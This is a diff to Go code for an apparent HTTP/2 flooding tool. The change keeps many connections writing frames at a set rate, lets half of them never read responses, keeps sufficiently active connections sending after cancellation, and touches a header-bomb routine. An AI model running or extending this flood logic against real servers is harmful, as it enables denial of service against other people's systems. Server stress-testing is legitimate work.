@@ -23,6 +23,7 @@ type framed struct {
 	fields *hpack.Encoder
 	block  bytes.Buffer
 	next   uint32 // stream
+	units  int    // written
 	odd    bool   // half of all are, for attacks that come in two kinds
 }
 
@@ -35,7 +36,7 @@ func (a *attacker) dial2(ctx context.Context, odd bool) (*framed, error) {
 	c := newFramed(v, a.Host)
 	c.odd = odd
 	if err = c.greet(); err != nil {
-		v.over(ctx, err)
+		v.over(err)
 	}
 	return c, err
 }
@@ -77,15 +78,17 @@ type unit func(c *framed) error
 const tick = 20 * time.Millisecond
 
 // flood keeps Connections open, all of which together write PerSecond units. One that the server ends is followed by
-// another. With deaf, half of them never read.
+// another. With deaf, half of them never read. Those that have sent enough go on after ctx until they are cut.
 func flood(write unit, deaf bool) func(context.Context, *attacker) {
 	return func(ctx context.Context, a *attacker) {
+		late, cancel := a.later(ctx)
+		defer cancel()
 		each := max(1, a.PerSecond*int(tick/time.Millisecond)/1000/max(1, a.Connections))
 		var all sync.WaitGroup
 		for i := range a.Connections {
 			all.Go(func() {
 				for wait(ctx, tick) {
-					a.drown(ctx, write, each, i%2 == 1, deaf)
+					a.drown(ctx, late, write, each, i%2 == 1, deaf)
 				}
 			})
 		}
@@ -93,28 +96,44 @@ func flood(write unit, deaf bool) func(context.Context, *attacker) {
 	}
 }
 
+// later ends Wait after ctx if that has a deadline to end by, and with ctx otherwise.
+func (a *attacker) later(ctx context.Context) (context.Context, context.CancelFunc) {
+	late, cancel := context.WithCancel(context.WithoutCancel(ctx))
+	context.AfterFunc(ctx, func() {
+		if isTimeout(ctx.Err()) {
+			wait(late, a.Wait)
+		}
+		cancel()
+	})
+	return late, cancel
+}
+
 // drown is the life of one connection of a flood.
-func (a *attacker) drown(ctx context.Context, write unit, each int, odd, deaf bool) {
+func (a *attacker) drown(ctx, late context.Context, write unit, each int, odd, deaf bool) {
 	c, err := a.dial2(ctx, odd)
 	if err != nil {
 		return
 	}
-	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
-	defer stop()
 	var listening sync.WaitGroup
 	heard := make(chan error, 1)
-	if !deaf || !odd {
+	hear := func() error { return <-heard }
+	if deaf && odd {
+		hear = func() error { return a.listen(c) }
+	} else {
 		listening.Go(func() { heard <- a.listen(c) })
 	}
-	err = a.pour(ctx, c, write, each, heard)
-	c.over(ctx, err)
+	if err = a.pour(ctx, late, c, write, each, heard); c.units >= a.Enough {
+		a.finish(c.victim, err, hear)
+	} else {
+		c.over(err)
+	}
 	listening.Wait()
 }
 
-// pour writes until the server ends the connection or ctx does. A server that reads no more, but leaves the connection
-// open, is waited for.
-func (a *attacker) pour(ctx context.Context, c *framed, write unit, each int, heard <-chan error) error {
-	for a.pacer.wait(ctx, each) {
+// pour writes until the server ends the connection, or ctx ends before it has sent enough. A server that reads no more, but
+// leaves the connection open, is waited for.
+func (a *attacker) pour(ctx, late context.Context, c *framed, write unit, each int, heard <-chan error) error {
+	for a.pacer.wait(late, each) && (ctx.Err() == nil || c.units >= a.Enough) {
 		for range each {
 			if err := write(c); err != nil {
 				return err
@@ -125,6 +144,7 @@ func (a *attacker) pour(ctx context.Context, c *framed, write unit, each int, he
 			return err
 		}
 		a.tally.sent(each)
+		c.units += each
 		select {
 		case err := <-heard:
 			return err
@@ -244,7 +264,7 @@ func (a *attacker) bomb2(ctx context.Context, block []byte) string {
 	}
 	_ = c.out.Flush() // the server may end it meanwhile, and have said why
 	said, err := c.verdict()
-	c.over(ctx, err)
+	c.over(err)
 	if ctx.Err() != nil {
 		return ""
 	}
